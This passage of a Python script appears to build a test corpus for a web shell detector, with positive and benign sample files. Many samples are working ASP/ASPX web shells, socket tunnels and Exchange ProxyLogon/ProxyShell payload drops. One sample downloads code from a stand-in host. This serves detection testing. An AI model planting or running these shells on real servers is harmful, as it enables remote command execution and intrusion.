        System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["b"])).CreateInstance("P");
    }
}
</script>
'''))

pos(T, "sha256-cookie.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
static string Sha(string s)
{
    using (var sha = System.Security.Cryptography.SHA256.Create())
        return BitConverter.ToString(sha.ComputeHash(System.Text.Encoding.UTF8.GetBytes(s))).Replace("-", "").ToLowerInvariant();
}

void Page_Load(object sender, EventArgs e)
{
    HttpCookie c = Request.Cookies["sessid"];
    if (c == null || Sha(c.Value) != "''' + sha256hex("corpus-gate-three") + r'''") return;
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["cmd"]);
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
'''), eol="lf")

pos(T, "vbs-gate.asp", strip1(r'''
<%
If Request("pw") = "letmein2021" Then
    Execute Request("z")
Else
    Response.Status = "404 Not Found"
End If
%>
'''))

pos(T, "vbnet-sha1-utf16.aspx", strip1(r'''
<%@ Page Language="VB" %>
<%@ Import Namespace="System.Web.Security" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim t As String = Request.QueryString("t")
    If t Is Nothing Then Exit Sub
    If FormsAuthentication.HashPasswordForStoringInConfigFile(t, "SHA1") = "''' + sha1hex("corpus-gate-four") + r'''" Then
        Dim i As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & Request.QueryString("x"))
        i.UseShellExecute = False
        i.RedirectStandardOutput = True
        Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())
    End If
End Sub
</script>
'''), enc="utf-16le")

pos(T, "cookie-jscript.aspx", strip1(r'''
<%@ Page Language="JScript" %><%
var lang = Request.Cookies["lang"];
if (lang != null && lang.Value == "zh-tw-9981") { eval(Request.Item["p"], "unsafe"); }
%>
'''), eol="lf")

pos(T, "session-gate.aspx", strip1(r'''
<%@ Page Language="C#" EnableSessionState="true" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request.Form["login"] == "b7Kq-2291")
    {
        Session["auth"] = 1;
        return;
    }
    if (Session["auth"] == null) { Response.Redirect("/owa/"); return; }
    byte[] body = Request.BinaryRead(Request.ContentLength);
    System.Reflection.Assembly.Load(body).CreateInstance("M").Equals(Context);
}
</script>
'''))

pos(T, "vbs-upper-case.asp",
    '<%\r\nIF REQUEST.COOKIES("UID") = "7731" THEN\r\n\tEXECUTEGLOBAL REQUEST.FORM("B")\r\nEND IF\r\n%>\r\n')

# ---- socket-tunnel: HTTP-to-TCP tunnels driven by request headers/query --
T = "socket-tunnel"

pos(T, "tunnel-headers.aspx", strip1(r'''
<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    Response.BufferOutput = false;
    string op = Request.Headers["X-Op"];
    if (op == null) { Response.Write("ready"); return; }
    switch (op.ToUpperInvariant())
    {
        case "CONNECT":
        {
            string host = Request.Headers["X-Dst"];
            int port = int.Parse(Request.Headers["X-Dport"]);
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(new IPEndPoint(IPAddress.Parse(host), port));
            s.Blocking = false;
            Session["chan"] = s;
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "DISCONNECT":
        {
            Socket s = Session["chan"] as Socket;
            if (s != null) s.Close();
            Session.Abandon();
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "FORWARD":
        {
            Socket s = (Socket)Session["chan"];
            byte[] buf = new byte[Request.ContentLength];
            int n = Request.InputStream.Read(buf, 0, buf.Length);
            s.Send(buf, n, SocketFlags.None);
            Response.AddHeader("X-Res", "OK");
            break;
        }
        case "READ":
        {
            Socket s = (Socket)Session["chan"];
            byte[] buf = new byte[8192];
            try
            {
                int n;
                while ((n = s.Receive(buf)) > 0)
                {
                    byte[] part = new byte[n];
                    Buffer.BlockCopy(buf, 0, part, 0, n);
                    Response.BinaryWrite(part);
                }
            }
            catch (SocketException) { }
            Response.AddHeader("X-Res", "OK");
            break;
        }
    }
}
</script>
'''))

pos(T, "tunnel-query.aspx", strip1(r'''
<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string cmd = (Request.QueryString["cmd"] ?? "").ToLower();
    if (cmd == "connect")
    {
        IPAddress ip = Dns.GetHostAddresses(Request.QueryString["host"])[0];
        var sock = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp);
        sock.Connect(ip, Convert.ToInt32(Request.QueryString["port"]));
        Session["s"] = sock;
        Response.Write("[ok]");
    }
    else if (cmd == "forward")
    {
        var sock = (Socket)Session["s"];
        byte[] data = Request.BinaryRead(Request.TotalBytes);
        sock.Send(data);
    }
    else if (cmd == "read")
    {
        var sock = (Socket)Session["s"];
        byte[] buf = new byte[16384];
        if (sock.Poll(100000, SelectMode.SelectRead))
        {
            int n = sock.Receive(buf);
            Response.OutputStream.Write(buf, 0, n);
        }
    }
    else if (cmd == "disconnect")
    {
        var sock = Session["s"] as Socket;
        if (sock != null) { sock.Shutdown(SocketShutdown.Both); sock.Close(); }
        Session.Remove("s");
    }
}
</script>
'''), eol="lf")

pos(T, "tunnel-b64-headers.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Web;
using System.Web.SessionState;

public class Relay : IHttpHandler, IRequiresSessionState
{
    static string H(HttpRequest r, string name)
    {
        string v = r.Headers.Get(name);
        return v == null ? null : Encoding.UTF8.GetString(Convert.FromBase64String(v));
    }

    public void ProcessRequest(HttpContext context)
    {
        HttpRequest req = context.Request;
        string verb = H(req, "X-Vtc");
        if (verb == "CONNECT")
        {
            string[] target = H(req, "X-Dtc").Split(':');
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(target[0], int.Parse(target[1]));
            context.Session["relay"] = s;
        }
        else if (verb == "FORWARD")
        {
            Socket s = (Socket)context.Session["relay"];
            s.Send(req.BinaryRead(req.ContentLength));
        }
        else if (verb == "READ")
        {
            Socket s = (Socket)context.Session["relay"];
            byte[] b = new byte[4096];
            int n = s.Available > 0 ? s.Receive(b) : 0;
            context.Response.OutputStream.Write(b, 0, n);
        }
        else if (verb == "DISCONNECT")
        {
            ((Socket)context.Session["relay"]).Close();
            context.Session.Remove("relay");
        }
    }

    public bool IsReusable { get { return false; } }
}
'''))

pos(T, "tunnel-vbnet.aspx", strip1(r'''
<%@ Page Language="VB" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim mode As String = Request.Headers("X-Mode")
    Select Case UCase(mode)
        Case "CONNECT"
            Dim target As String = Request.Headers("X-Host")
            Dim port As Integer = CInt(Request.Headers("X-Port"))
            Dim s As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
            s.Connect(target, port)
            Session("tcp") = s
        Case "FORWARD"
            Dim s As Socket = CType(Session("tcp"), Socket)
            s.Send(Request.BinaryRead(Request.TotalBytes))
        Case "READ"
            Dim s As Socket = CType(Session("tcp"), Socket)
            Dim buf(8191) As Byte
            Dim n As Integer = 0
            If s.Poll(50000, SelectMode.SelectRead) Then n = s.Receive(buf)
            Response.OutputStream.Write(buf, 0, n)
        Case "DISCONNECT"
            CType(Session("tcp"), Socket).Close()
            Session.Remove("tcp")
    End Select
End Sub
</script>
'''))

pos(T, "tunnel-compact-utf16.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
	var c = Request.Headers [ "X-C" ];
	if (c == "CONNECT") { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
		s.Connect(Request.Headers["X-H"], int.Parse(Request.Headers["X-P"])); Session["k"] = s; return; }
	var t = Session [ "k" ] as Socket; if (t == null) return;
	if (c == "FORWARD") t.Send(Request.BinaryRead(Request.ContentLength));
	else if (c == "READ") { var b = new byte[8192]; int n = t.Available > 0 ? t.Receive(b) : 0; Response.OutputStream.Write(b, 0, n); }
	else if (c == "DISCONNECT") { t.Close(); Session.Remove("k"); }
}
</script>
'''), enc="utf-16le")

pos(T, "tunnel-jscript.aspx", strip1(r'''
<%@ Page Language="JScript" EnableSessionState="True" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
function Page_Load() {
    var cmd = Request.Headers["X-Cmd"];
    if (cmd == "CONNECT") {
        var sk = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sk.Connect(Request.Headers["X-Target"], int(Request.Headers["X-Port"]));
        Session["sk"] = sk;
    } else if (cmd == "FORWARD") {
        Session["sk"].Send(Request.BinaryRead(Request.ContentLength));
    } else if (cmd == "READ") {
        var buf : byte[] = new byte[8192];
        var n = Session["sk"].Available > 0 ? Session["sk"].Receive(buf) : 0;
        Response.OutputStream.Write(buf, 0, n);
    } else if (cmd == "DISCONNECT") {
        Session["sk"].Close();
        Session.Remove("sk");
    }
}
</script>
'''), eol="lf")

# ---- oab-dump: CVE-2021-27065 OAB virtual directory settings backup -------
T = "oab-dump"

_OAB_FIELDS = [
    ("RunspaceId", "{runspace}"),
    ("PollInterval", "480"),
    ("OfflineAddressBooks", ""),
    ("RequireSSL", "True"),
    ("BasicAuthentication", "False"),
    ("WindowsAuthentication", "True"),
    ("OAuthAuthentication", "True"),
    ("MetabasePath", "IIS://{fqdn}/W3SVC/1/ROOT/OAB"),
    ("Path", r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB"),
    ("ExtendedProtectionTokenChecking", "None"),
    ("ExtendedProtectionFlags", "{{}}"),
    ("ExtendedProtectionSPNList", "{{}}"),
    ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
    ("Server", "{server}"),
    ("InternalUrl", "{internal}"),
    ("InternalAuthenticationMethods", "{{WindowsIntegrated}}"),
    ("ExternalUrl", "{external}"),
    ("ExternalAuthenticationMethods", "{{WindowsIntegrated}}"),
    ("AdminDisplayName", ""),
    ("ExchangeVersion", "0.10 (14.0.100.0)"),
    ("Name", "OAB (Default Web Site)"),
    ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={server},CN=Servers,"
                          "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,"
                          "CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=contoso,DC=com"),
    ("Identity", r"{server}\OAB (Default Web Site)"),
    ("Guid", "{guid}"),
    ("ObjectCategory", "corp.contoso.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
    ("ObjectClass", "{{top, msExchVirtualDirectory, msExchOABVirtualDirectory}}"),
    ("WhenChanged", "{changed}"),
    ("WhenCreated", "10/12/2020 9:31:05 AM"),
    ("WhenChangedUTC", "{changedutc}"),
    ("WhenCreatedUTC", "10/12/2020 4:31:05 PM"),
    ("OrganizationId", ""),
    ("Id", r"{server}\OAB (Default Web Site)"),
    ("OriginatingServer", "DC01.corp.contoso.com"),
    ("IsValid", "True"),
    ("ObjectState", "Unchanged"),
]


def guid_from(key):
    h = hashlib.sha256(key.encode()).hexdigest()
    return "%s-%s-%s-%s-%s" % (h[0:8], h[8:12], h[12:16], h[16:20], h[20:32])


def oab_dump(key, server="EXCH01", internal=None, external=None,
             changed="3/3/2021 2:14:27 AM", changedutc="3/3/2021 10:14:27 AM"):
    """Get-OabVirtualDirectory | Format-List shaped text; names padded to the longest"""
    fqdn = server.lower() + ".corp.contoso.com"
    vals = {
        "runspace": guid_from(key + "/runspace"),
        "guid": guid_from(key + "/guid"),
        "fqdn": fqdn,
        "server": server,
        "internal": internal if internal is not None else "https://%s/OAB" % fqdn,
        "external": external if external is not None else "https://mail.contoso.com/OAB",
        "changed": changed,
        "changedutc": changedutc,
    }
    width = max(len(n) for n, _ in _OAB_FIELDS)
    lines = ["", ""]
    for n, v in _OAB_FIELDS:
        # values are inserted verbatim: the shell text may contain braces
        v = v.replace("{{", "\0").replace("}}", "\1")
        for k, val in vals.items():
            v = v.replace("{" + k + "}", val)
        v = v.replace("\0", "{").replace("\1", "}")
        lines.append((n.ljust(width) + " : " + v).rstrip() if v == "" else n.ljust(width) + " : " + v)
    lines += ["", "", ""]
    return "\n".join(lines)


CHOPPER_JS = '<script language="JScript" runat="server">function Page_Load(){eval(Request["%s"],"unsafe");}</script>'

pos(T, "external-jscript-f.aspx", oab_dump("oab-1", external="http://f/" + CHOPPER_JS % "klk123456"))
pos(T, "internal-jscript-f.aspx", oab_dump("oab-2", server="MBX02",
    internal="http://f/" + CHOPPER_JS % "exec_code"))
pos(T, "external-jscript-g.aspx", oab_dump("oab-3", external="http://g/" + CHOPPER_JS % "orange"))
pos(T, "external-csharp.aspx", oab_dump("oab-4", external=(
    'http://f/<script language="c#" runat="server">void Page_Load(object sender, EventArgs e)'
    '{if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath("./") + Request.Form["n"]);}}</script>')))
pos(T, "external-obfuscated-0x.aspx", oab_dump("oab-5", server="EXCH-EDGE3", external=(
    "http://f/<script language=\"JScript\" runat=\"server\">var _0x5d1e=['unsafe','code','Item'];"
    "function Page_Load(){eval(Request[_0x5d1e[0x2]][_0x5d1e[0x1]],_0x5d1e[0x0]);}</script>")))
pos(T, "external-utf16.aspx", oab_dump("oab-6", external="http://f/" + CHOPPER_JS % "q7Rz"), enc="utf-16le")
pos(T, "external-lf.aspx", oab_dump("oab-7", server="EX2016", external="http://f/" + CHOPPER_JS % "pwd2021"), eol="lf")
pos(T, "internal-g-item.aspx", oab_dump("oab-8", internal=(
    'http://g/<script language="JScript" runat="server">function Page_Load(){eval(Request.Item["t0k"],"unsafe");}</script>')))

# ---- pst-drop: ProxyShell mailbox export written as .aspx -----------------
T = "pst-drop"

PST_SCRIPT = '<script language="JScript" runat="server">function Page_Load(){eval(Request["%s"],"unsafe");}</script>'
PST_PAGE = '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["%s"],"unsafe");%%>'


def pst_bytes(key, payload, size, where):
    """!BDN header, then blocks of zeros and filler, with payload at fraction `where`"""
    r = Rng(key)
    out = bytearray(b"!BDN")
    out += r.raw(4)                      # dwCRCPartial
    out += b"SM"                         # wMagicClient
    out += (23).to_bytes(2, "little")    # wVer (Unicode PST)
    out += (19).to_bytes(2, "little")    # wVerClient
    out += b"\x01\x01"                   # bPlatformCreate, bPlatformAccess
    out += bytes(8)
    out += r.junk(64)
    out += bytes(512 - len(out))
    while len(out) < size - len(payload):
        if r.below(3) == 0:
            out += bytes(16 * (1 + r.below(24)))
        else:
            out += r.junk(16 * (1 + r.below(16)))
    body = bytes(out[: size - len(payload)])
    at = max(520, int(len(body) * where)) & ~7
    return body[:at] + payload + body[at:]


pos_pst = [
    ("script-middle.aspx", (PST_SCRIPT % "x").encode(), 2600, 0.5),
    ("page-directive.aspx", (PST_PAGE % "x").encode(), 1900, 0.45),
    ("utf16-script.aspx", (PST_SCRIPT % "code").encode("utf-16-le"), 3600, 0.6),
    ("near-start.aspx", (PST_SCRIPT % "gh4").encode(), 1500, 0.0),
    ("near-end.aspx", (PST_PAGE % "a9").encode(), 2200, 0.97),
    ("b64-decode.aspx", ('<script language="JScript" runat="server">function Page_Load(){eval('
                         'System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["k"])),'
                         '"unsafe");}</script>').encode(), 3000, 0.3),
    ("large-4k.aspx", (PST_SCRIPT % "orangenb").encode(), 4400, 0.72),
    ("utf16-page.aspx", (PST_PAGE % "z").encode("utf-16-le"), 2400, 0.35),
]
for name, payload, size, where in pos_pst:
    put_bytes("positive/%s/%s" % (T, name), pst_bytes("pst/" + name, payload, size, where))

# ---- der-drop: ProxyShell certificate request written as .aspx -----------
T = "der-drop"


def der(tag, content):
    n = len(content)
    if n < 0x80:
        ln = bytes([n])
    elif n < 0x100:
        ln = b"\x81" + bytes([n])
    else:
        ln = b"\x82" + n.to_bytes(2, "big")
    return bytes([tag]) + ln + content


def oid(dotted):
    parts = [int(p) for p in dotted.split(".")]
    out = bytearray([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        out += bytes(reversed(enc))
    return der(0x06, bytes(out))


def rdn(attr_oid, value, tag=0x0C):
    return der(0x31, der(0x30, oid(attr_oid) + der(tag, value.encode("utf-8"))))


def csr(key, rdns, bits=2048):
    """PKCS#10 CertificationRequest with a junk key and signature (0x3C bytes avoided)"""
    r = Rng(key)
    subject = der(0x30, b"".join(rdn(o, v) for o, v in rdns))
    modulus = b"\x00\xc1" + r.junk(bits // 8 - 1)
    rsakey = der(0x30, der(0x02, modulus) + der(0x02, b"\x01\x00\x01"))
    spki = der(0x30, der(0x30, oid("1.2.840.113549.1.1.1") + b"\x05\x00") + der(0x03, b"\x00" + rsakey))
    ext = der(0x30, oid("1.2.840.113549.1.9.14") + der(0x31, der(0x30, der(0x30,
              oid("2.5.29.15") + der(0x01, b"\xff") + der(0x04, der(0x03, b"\x05\xa0"))))))
    attrs = der(0xA0, ext)
    info = der(0x30, der(0x02, b"\x00") + subject + spki + attrs)
    alg = der(0x30, oid("1.2.840.113549.1.1.11") + b"\x05\x00")
    sig = der(0x03, b"\x00" + r.junk(bits // 8))
    return der(0x30, info + alg + sig)


CN, OU, O, C, L = "2.5.4.3", "2.5.4.11", "2.5.4.10", "2.5.4.6", "2.5.4.7"
pos_der = [
    ("cn-jscript.aspx", [(CN, PST_SCRIPT % "x")], 2048),
    ("cn-page-directive.aspx", [(CN, PST_PAGE % "exec_code")], 2048),
    ("ou-csharp.aspx", [(C, "US"), (O, "Contoso"),
                        (OU, '<script language="C#" runat="server">void Page_Load(object s, EventArgs e)'
                             '{System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);}</script>'),
                        (CN, "mail.contoso.com")], 2048),
    ("o-b64-eval.aspx", [(O, '<script language="JScript" runat="server">function Page_Load(){eval('
                             'System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["z"])),'
                             '"unsafe");}</script>'), (CN, "autodiscover.contoso.com")], 2048),
    ("cert-request.aspx.req", [(CN, PST_SCRIPT % "gold8899")], 2048),
    ("rsa4096-subject.aspx", [(C, "US"), (L, "Redmond"), (CN, PST_SCRIPT % "Vfq")], 4096),
    ("cn-obfuscated.aspx", [(CN, "<script language=\"JScript\" runat=\"server\">var _0x7e21=['Item','p1','unsafe'];"
                                 "function Page_Load(){eval(Request[_0x7e21[0]][_0x7e21[1]],_0x7e21[2]);}</script>")], 2048),
]
for name, rdns, bits in pos_der:
    put_bytes("positive/%s/%s" % (T, name), csr("der/" + name, rdns, bits))

# ==========================================================================
# BENIGN
# ==========================================================================

# ---- wild-classes: shapes seen in public shell collections (issue 11) -----
# Written here from descriptions of each class; none is a copy of a public file.
T = "wild-classes"

pos(T, "concat-fragments-eval.asp",
    '<%Eval("Ex"&"ec"&"ute(Req"&"uest(""k7""))")%>\r\n<p>.</p>\r\n', eol="lf")

pos(T, "replace-variable-execute.asp", strip1(r'''
<%
q = "E#x#e#c#u#t#e#(#R#e#q#u#e#s#t#(#""p""#)#)"
q = Replace(q, "#", "")
Execute q
%>
'''))

pos(T, "utf7-codepage.asp", strip1(r'''
<%@ CodePage=65000 %>
<%+AEU-xecute(Request(+ACI-w+ACI))%>
'''), eol="lf")

pos(T, "jscript-eval-alias.asp", strip1(r'''
<script runat="server" language="JScript">
var box = {run: eval};
box.run(Request.Form("d") + "");
</script>
'''))

pos(T, "jscript-unsafe-wrapper.aspx", strip1(r'''
<script runat="server" language="JScript">
function helper(code) {
    var mode = "un" + "sa" + "fe";
    return eval(code, mode);
}
</script>
'''))

pos(T, "helper-function-shell.config", strip1(r'''
<?xml version="1.0"?>
<configuration>
  <system.webServer>
    <handlers><add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" /></handlers>
  </system.webServer>
</configuration>
<%
Function RunIt(c)
    Set o = CreateObject("WScript.Shell")
    RunIt = o.Exec("cmd.exe /c " & c).StdOut.ReadAll
End Function
Response.Write RunIt(Request.QueryString("q"))
%>
'''))

pos(T, "textbox-process.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string RunTool(string args)
{
    var info = new ProcessStartInfo("cmd.exe", "/c " + args);
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    return Process.Start(info).StandardOutput.ReadToEnd();
}
void Go_Click(object sender, EventArgs e)
{
    Output.Text = Server.HtmlEncode(RunTool(CmdBox.Text));
}
</script>
<form runat="server">
<asp:TextBox ID="CmdBox" runat="server" />
<asp:Button ID="Go" runat="server" Text="Go" OnClick="Go_Click" />
<asp:Label ID="Output" runat="server" />
</form>
'''))

pos(T, "stdin-console.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Console1" %>
using System.Diagnostics;
using System.Web;
public class Console1 : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        string line = ctx.Request.Form["l"];
        var p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardInput = true;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        p.StandardInput.WriteLine(line);
        p.StandardInput.Close();
        ctx.Response.Write(p.StandardOutput.ReadToEnd());
    }
}
'''))

pos(T, "dropper-handler.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Drop" %>
using System.IO;
using System.Web;
public class Drop : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) {
        string body = "<%@ Page Language=\"Jscript\"%" + "><%eval(Request." + "Item[\"q\"],\"unsafe\");%>";
        using (StreamWriter w = File.CreateText(context.Server.MapPath("status.aspx")))
            w.Write(body);
    }
}
'''))

pos(T, "downloader-saves-page.asp", strip1(r'''
<%
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://files.contoso.com/update.txt", False
h.Send
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write h.ResponseBody
st.SaveToFile Server.MapPath("help.asp"), 2
st.Close
%>
'''))

pos(T, "fso-file-manager.asp", strip1(r'''
<%
Set f = Server.CreateObject("Scrip" & "ting.FileSys" & "temObject")
d = Request("dir")
If Request("del") <> "" Then f.DeleteFile d & "\" & Request("del")
For Each x In f.GetFolder(d).Files
    Response.Write x.Name & "<br>"
Next
%>
'''))

pos(T, "sql-console.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%
string cs = Request.Form["cs"], q = Request.Form["q"];
if (!string.IsNullOrEmpty(q)) {
    using (var c = new SqlConnection(cs)) {
        c.Open();
        var r = new SqlCommand(q, c).ExecuteReader();
        while (r.Read()) Response.Write(r[0] + "\n");
    }
}
%>
'''))

pos(T, "xslt-script.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
string sheet = @"<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""urn:u"">
<msxsl:script language=""JScript"" implements-prefix=""u"">function go() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], 'unsafe'); return ''; }</msxsl:script>
<xsl:template match=""/""><xsl:value-of select=""u:go()""/></xsl:template></xsl:stylesheet>";
var x = new XslCompiledTransform();
var d = new XmlDocument(); d.LoadXml(sheet);
x.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver());
%>
'''))

pos(T, "reflection-load.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%
byte[] k = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
byte[] blob = System.Convert.FromBase64String(Request.Form["b"]);
blob = new System.Security.Cryptography.AesManaged().CreateDecryptor(k, k).TransformFinalBlock(blob, 0, blob.Length);
var asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { blob });
%>
'''))

pos(T, "include-image.asp",
    '<!--#include file="images/logo-small.gif"-->\r\n<html><body>Welcome</body></html>\r\n', eol="lf")

pos(T, "fragment-no-delimiters.asp",
    'Execute(Request("z"))\r\n', eol="lf")

pos(T, "http-proxy.asp", strip1(r'''
<%@ Language="JScript" %>
<%
var target = String(Request.QueryString("u"));
var x = Server.CreateObject("MSXML2.ServerXMLHTTP");
x.open("GET", target, false);
x.send();
Response.BinaryWrite(x.responseBody);
%>
'''))

pos(T, "local-service-command.asp", strip1(r'''
<%
p = Request.Form("port")
c = Request.Form("c")
Set w = Server.CreateObject("Microsoft.XMLHTTP")
w.open "POST", "http://127.0.0.1:" & p & "/admin/run", False
w.send "user admin" & vbCrLf & "exec " & c & vbCrLf
Response.Write w.responseText
%>
'''))

pos(T, "config-value-fragment.asp",
    '0":Execute(Request("cfg")):x="\r\n', eol="lf")

pos(T, "upload-beside-page.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Request.Files.Count == 1) {
        HttpPostedFile up = Request.Files[0];
        string here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName;
        up.SaveAs(System.IO.Path.Combine(here, System.IO.Path.GetFileName(up.FileName)));
        Response.Write("stored");
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input type="submit"/></form>
'''))

pos(T, "com-runner.asp", strip1(r'''
<%
Set engine = Server.CreateObject("Contoso.PageEngine")
engine.Load "QWxhZGRpbjpvcGVuIHNlc2FtZQ0KU29tZSBlbmNvZGVkIGJsb2I="
engine.Load "U29tZSBtb3JlIGVuY29kZWQgYmxvYiB0aGF0IGRlY29kZXMgdG8gY29kZQ=="
engine.Run "LANGUAGE=VBSCRIPT", Application, Request, Response, Server, Session
Set engine = Nothing
%>
'''))

pos(T, "writes-include-page.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Stub" %>
using System.IO;
using System.Web;
public class Stub : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) {
        using (StreamWriter w = File.CreateText(context.Server.MapPath("default2.aspx")))
            w.Write("<!--#include file=\"images/banner.jpg\" -->");
    }
}
'''))

# ---- near misses for the classes above: ordinary code that must stay quiet
S = "wild-near-miss"

ben(S, "sqlsearch.aspx", strip1(r'''
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%
string term = Request.QueryString["q"] ?? "";
using (var c = new SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["main"].ConnectionString)) {
    c.Open();
    var cmd = new SqlCommand("SELECT Name FROM Products WHERE Name LIKE @t", c);
    cmd.Parameters.AddWithValue("@t", "%" + term + "%");
    var r = cmd.ExecuteReader();
    while (r.Read()) Response.Write(Server.HtmlEncode(r.GetString(0)) + "<br/>");
}
%>
'''))

ben(S, "ContactForm.aspx", strip1(r'''
<%@ Page Language="C#" %>
<script runat="server">
void Send_Click(object sender, EventArgs e)
{
    string path = Server.MapPath("~/App_Data/messages.txt");
    System.IO.File.AppendAllText(path, Server.HtmlEncode(MessageBox.Text) + "\n");
    Thanks.Visible = true;
}
</script>
<form runat="server">
<asp:TextBox ID="MessageBox" runat="server" TextMode="MultiLine" />
<asp:Button ID="Send" runat="server" Text="Send" OnClick="Send_Click" />
<asp:Label ID="Thanks" runat="server" Visible="false" Text="Thank you" />
</form>
'''))

ben(S, "Gallery.aspx.cs", strip1(r'''
using System;
using System.IO;
using System.Web.UI;
public partial class Gallery : Page
{
    protected void Page_Load(object sender, EventArgs e)
    {
        string album = Path.GetFileName(Request.QueryString["album"] ?? "default");
        string dir = Path.Combine(Server.MapPath("~/photos"), album);
        if (!Directory.Exists(dir))
            return;
        foreach (string f in Directory.GetFiles(dir, "*.jpg"))
            Response.Write("<img src='photos/" + album + "/" + Path.GetFileName(f) + "'/>");
    }
}
'''))

ben(S, "Proxy.ashx", strip1(r'''
<%@ WebHandler Language="C#" Class="Proxy" %>
using System.IO;
using System.Net;
using System.Web;
public class Proxy : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext context) {
        var request = (HttpWebRequest)WebRequest.Create("https://api.contoso.com/rates");
        request.Method = "POST";
        using (var w = new StreamWriter(request.GetRequestStream()))
            w.Write("{\"currency\":\"EUR\"}");
        using (var r = new StreamReader(request.GetResponse().GetResponseStream()))
            context.Response.Write(r.ReadToEnd());
    }
}
'''))

ben(S, "include-footer.asp",
    '<!--#include file="inc/footer.inc"-->\r\n<!--#include virtual="/shared/menu.asp"-->\r\n<p>Home</p>\r\n', eol="lf")

ben(S, "PluginHost.aspx.cs", strip1(r'''
using System;
using System.Reflection;
using System.Web.UI;
public partial class PluginHost : Page
{
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Params.Get("plugin") != null)
        {
            Guid id = new Guid(Request.Params.Get("plugin"));
